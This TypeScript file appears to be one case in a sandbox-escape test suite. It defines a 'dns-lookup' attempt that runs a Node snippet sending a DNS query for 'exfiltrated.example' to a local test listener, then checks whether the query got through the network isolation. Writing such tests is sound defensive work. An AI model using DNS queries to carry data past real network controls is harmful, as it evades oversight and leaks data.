import { type Attempt, node } from '../attempt.ts';

const ask = (port: number): string =>
  `const r=new (require('dns').promises.Resolver)({timeout:300,tries:1});r.setServers(['127.0.0.1:${port}']);r.resolve4('exfiltrated.example').catch(()=>{})`;

export const dnsLookup: Attempt = {
  name: 'dns-lookup',
  tried: 'carry data out in a DNS query',
  stoppedBy: 'network namespace; only the proxy resolves names',
  trial: (scene) => node(ask(scene.udpPort)),
  reached: (scene) => scene.heard().includes('exfiltrated'),
};
